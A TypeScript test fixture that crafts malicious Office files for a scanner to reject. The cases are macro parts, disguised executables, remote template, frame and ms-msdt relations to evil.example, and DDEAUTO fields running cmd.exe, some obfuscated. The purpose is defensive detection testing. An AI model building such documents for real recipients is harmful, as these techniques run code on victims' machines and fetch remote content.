import { hostile } from '../hostile-file.ts'
import { craftDocx, craftXlsx, documentXml, relationsXml } from '../office-files.ts'

const ole = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(2000)])
const macroWord = 'application/vnd.ms-word.document.macroEnabled.main+xml'
const macroSheet = 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'
const field = (...texts: readonly string[]) =>
  documentXml(
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${texts.map((text) => `<w:r><w:instrText>${text}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
  )
const act = 'active-content'

/** Parts that act, in each kind of document. */
const parts: readonly (readonly [string, string, string | Buffer])[] = [
  ['VBA', 'vbaProject.bin', ole],
  ['VBA under another name', 'settings.bin', ole],
  ['macros of WPS', 'JDEData.bin', 'x'],
  ['a control', 'activeX/activeX1.xml', '<a/>'],
  ['an OLE package', 'embeddings/oleObject1.bin', ole],
  ['a workbook inside', 'embeddings/sheet.xlsx', 'PK\x03\x04'],
  ['a program inside', 'media/image1.png', 'MZ\x90\0'],
  ['an archive inside', 'media/image2.png', 'PK\x03\x04xxxx'],
  ['a pdf inside', 'media/image3.jpeg', '%PDF-1.7'],
  ['a script inside', 'media/a.js', 'alert(1)'],
  ['an SVG with a script', 'media/image1.svg', '<svg><script>alert(1)</script></svg>'],
  ['an add-in', 'webextensions/webextension1.xml', '<a/>'],
]
const relations: readonly (readonly [string, string, string, 'outside'?])[] = [
  ['a template from outside', 'attachedTemplate', 'http://evil.example/a.dotm', 'outside'],
  ['a template from a share', 'attachedTemplate', '\\\\evil\\share\\a.dotm', 'outside'],
  ['a template from a share by address', 'attachedTemplate', 'file://evil/share/a.dotm', 'outside'],
  ['an object from outside', 'oleObject', 'http://evil.example/a.html!', 'outside'],
  ['a frame from outside', 'frame', 'http://evil.example/', 'outside'],
  ['a sub-document', 'subDocument', 'http://evil.example/a.docx', 'outside'],
  ['a block of another format', 'aFChunk', 'afchunk.mht'],
  ['a link that starts a program', 'hyperlink', 'ms-msdt:/id PCWDiagnostic', 'outside'],
  ['a link that is a script', 'hyperlink', 'javascript:alert(1)', 'outside'],
  ['a link to a search of Windows', 'hyperlink', 'search-ms:query=x', 'outside'],
  ['a data source', 'mailMergeSource', 'file:///c:/a.odc', 'outside'],
]

export const macros = hostile('macros', [
  ['docm called docx', 'a.docx', act, () => craftDocx({ mainType: macroWord })],
  ['docm as it is', 'a.docm', act, () => craftDocx({ mainType: macroWord })],
  ['xlsm called xlsx', 'a.xlsx', act, () => craftXlsx({ mainType: macroSheet })],
  [
    'a template with macros',
    'a.docx',
    act,
    () => craftDocx({ mainType: 'application/vnd.ms-word.template.macroEnabledTemplate.main+xml' }),
  ],
  ...parts.map(
    ([about, part, bytes]) =>
      [about, 'a.docx', act, () => craftDocx({ parts: [{ name: `word/${part}`, bytes }] })] as const,
  ),
  ...parts.map(
    ([about, part, bytes]) =>
      [about, 'a.xlsx', act, () => craftXlsx({ parts: [{ name: `xl/${part}`, bytes }] })] as const,
  ),
  ...relations.map(
    ([about, type, target, outside]) =>
      [
        about,
        'a.docx',
        act,
        () => craftDocx({ relations: [outside ? [type, target, outside] : [type, target]] }),
      ] as const,
  ),
  [
    'an Excel 4 macro sheet',
    'a.xlsx',
    act,
    () => craftXlsx({ parts: [{ name: 'xl/macrosheets/sheet1.xml', bytes: '<a/>' }] }),
  ],
  [
    'DDEAUTO',
    'a.docx',
    act,
    () => craftDocx({ main: field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"') }),
  ],
  ['DDE cut into runs', 'a.docx', act, () => craftDocx({ main: field('D', 'D', 'EAU', 'TO cmd "/k calc"') })],
  [
    'DDE in a simple field',
    'a.docx',
    act,
    () => craftDocx({ main: documentXml('<w:p><w:fldSimple w:instr="dde cmd &quot;/k&quot;"/></w:p>') }),
  ],
  [
    'DDE in numbers',
    'a.docx',
    act,
    () => craftDocx({ main: field('SET c "', 'QUOTE 68 68 69 65 85 84 79 ', '"') }),
  ],
  [
    'DDE in a header',
    'a.docx',
    act,
    () => craftDocx({ parts: [{ name: 'word/header1.xml', bytes: field('DDE cmd') }] }),
  ],
  [
    'a text fetched from outside',
    'a.docx',
    act,
    () => craftDocx({ main: field('INCLUDETEXT "http://evil.example/a"') }),
  ],
  [
    'a picture fetched from a share',
    'a.docx',
    act,
    () => craftDocx({ main: field('INCLUDEPICTURE "\\\\evil\\a.png"') }),
  ],
  [
    'a linked object',
    'a.docx',
    act,
    () => craftDocx({ main: field('LINK Excel.Sheet.12 "c:\\a.xlsx" R1C1') }),
  ],
  ...(
    [
      ['in a document kept under another name', 'foo/doc.xml'],
      ['in a document kept under other letters', 'WORD/document.xml'],
      ['in a document that ends otherwise', 'word/document.dat'],
    ] as const
  ).map(
    ([about, part]) =>
      [`DDE ${about}`, 'a.docx', [act, 'damaged'], () => elsewhere(part, field('DDE cmd'))] as const,
  ),
  ...['word/header1.dat', 'word/header1.bin', 'word/header1.png', 'xl/printerSettings/a.bin'].map(
    (part) =>
      [
        `DDE in a header called ${part}`,
        'a.docx',
        [act, 'damaged'],
        () =>
          craftDocx({
            relations: [['header', `/${part}`]],
            parts: [{ name: part, bytes: field('DDE cmd') }],
          }),
      ] as const,
  ),
  [
    'a template from outside, tied in capitals',
    'a.docx',
    act,
    () =>
      craftDocx({
        parts: [
          {
            name: 'word/_rels/settings.xml.RELS',
            bytes: relationsXml([['attachedTemplate', 'http://evil.example/a.dotm', 'outside']]),
          },
        ],
      }),
  ],
  [
    'an old workbook with macros',
    'a.xls',
    'wrong-type',
    () =>
      Buffer.concat([ole, Buffer.from('Workbook', 'utf16le'), Buffer.from('_VBA_PROJECT_CUR', 'utf16le')]),
  ],
  [
    'an old workbook called xlsx',
    'a.xlsx',
    'wrong-type',
    () => Buffer.concat([ole, Buffer.from('Workbook', 'utf16le')]),
  ],
  [
    'an old document called docx',
    'a.docx',
    'wrong-type',
    () => Buffer.concat([ole, Buffer.from('WordDocument', 'utf16le')]),
  ],
  [
    'a document under a password',
    'a.docx',
    'locked',
    () => Buffer.concat([ole, Buffer.from('EncryptedPackage', 'utf16le')]),
  ],
])

/** A document whose main part lies elsewhere, as the rules of packages allow. */
function elsewhere(part: string, main: string): Buffer {
  const type = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
  return craftDocx({
    mainType: `application/xml"/><Override PartName="/${part}" ContentType="${type}`,
    parts: [{ name: part, bytes: main }],
    replace: {
      '_rels/.rels': { bytes: relationsXml([['officeDocument', part]]) },
      'word/document.xml': { name: 'unused.xml' },
    },
  })
}
